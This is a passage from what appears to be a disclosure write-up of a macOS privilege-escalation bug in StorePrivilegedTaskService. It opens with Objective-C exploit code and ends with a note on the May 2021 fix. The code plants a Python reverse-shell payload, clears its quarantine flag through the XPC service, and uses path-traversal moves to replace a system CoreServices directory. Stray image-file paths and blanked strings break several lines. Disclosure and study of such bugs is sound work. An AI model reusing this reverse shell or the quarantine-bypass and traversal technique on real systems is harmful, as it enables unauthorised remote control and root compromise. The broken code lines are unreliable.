[fm createDirectoryAtPath:[path stringByAppendingPathComponent:@"Contents/MacOS"]withIntermediateDirectories:TRUE attributes:nil error:&error];


/// Create the payload. This example uses a Python reverse shell to
[@"#!/usr/bin/env python\n\nimport socket,subprocess,os; s=socket.socket(socket.AF_INET,socket.SOCK_STREAM); s.connect((\"\",1337)); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);[\"/bin/sh\",\"-i\"]);" writeToFile:[path stringByAppendingPathComponent:@"Contents/MacOS/MRT"] atomically:TRUE encoding:NSUTF8StringEncoding error:&error];


/// Make the payload executable
[fm setAttributes:@{NSFilePosixPermissions: [NSNumber numberWithShort:0777]} ofItemAtPath:[path stringByAppendingPathComponent:@"Contents/MacOS/MRT"] error:&error];


/// Load the framework, so the XPC service can be resolved.
[[NSBundle bundleWithPath:@"/System/Library/PrivateFrameworks/AppStoreDaemon.framework/"] load];

NSXPCConnection *conn = [[NSXPCConnection alloc] initWithServiceName:@""];
conn.remoteObjectInterface = [NSXPCInterface interfaceWithProtocol:@protocol(StorePrivilegedTaskInterface)];
[conn resume];

/// The new file is now quarantined, because this process created it. Change the quarantine flag to something which is allowed to run.
/// Another option would have been to use the`-writeAssetPackMetadata:toURL:replyHandler` method to create an unquarantined file.
[conn.remoteObjectProxy setExtendedAttributeAtPath:[path stringByAppendingPathComponent:@"Contents/MacOS/MRT"] name:@"" value:[@"00C3;60018532;Safari;" dataUsingEncoding:NSUTF8StringEncoding] withReplyHandler:^(NSError *result) {
    NSLog(@"%@", result);

    assert(result == nil);

    srand((unsigned int)time(NULL));

    /// Deleting this directory is not allowed by the sandbox profile of StorePrivilegedTaskService: it can't modify the files inside it.
    /// However, to move a directory, the permissions on the contents do not matter.
    /// It is moved to a randomly named directory, because the service refuses if it already exists.
    [conn.remoteObjectProxy moveAssetPackAtPath:@"/Library/Apple/System/Library/CoreServices/" toPath:[NSString stringWithFormat:@"/System/Library/Caches/OnDemandResources/AssetPacks/../../../../../../../../../../../Library/Apple/System/Library/CoreServices/", rand()]
                               withReplyHandler:^(NSError *result) {
        NSLog(@"Result: %@", result);

        assert(result == nil);

        /// Move the malicious directory in place of
        [conn.remoteObjectProxy moveAssetPackAtPath:path toPath:@"/System/Library/Caches/OnDemandResources/AssetPacks/../../../../../../../../../../../Library/Apple/System/Library/CoreServices/" withReplyHandler:^(NSError *result) {
            NSLog(@"Result: %@", result);

            /// At launch, /Library/Apple/System/Library/CoreServices/ -d is started. So now time to wait for that...Apple has pushed out a fix in the macOS 11.4 release. They implemented all 3 of the recommended changes:

  1. Check the entitlements of the process initiating the connection to StorePrivilegedTaskService.
  2. Tightened the sandboxing profile of StorePrivilegedTaskService.
  3. The path traversal vulnerabilities for the subdirectory check were fixed.

This means that the vulnerability is not just fixed, but reintroducing it later is unlikely to be exploitable again due to the improved sandboxing profile and path checks. We reported this vulnerability to Apple on January 19th, 2021 and a fix was released on May 24th, 2021.

  1. This is actually a quite interesting aspect of the macOS sandbox: to delete a directory, the process needs to have file-write-unlinkpermission on all of the contents, as each file in it must be deleted. To move a directory somewhere else, only permissions on the directory itself and itsdestination are needed! ↩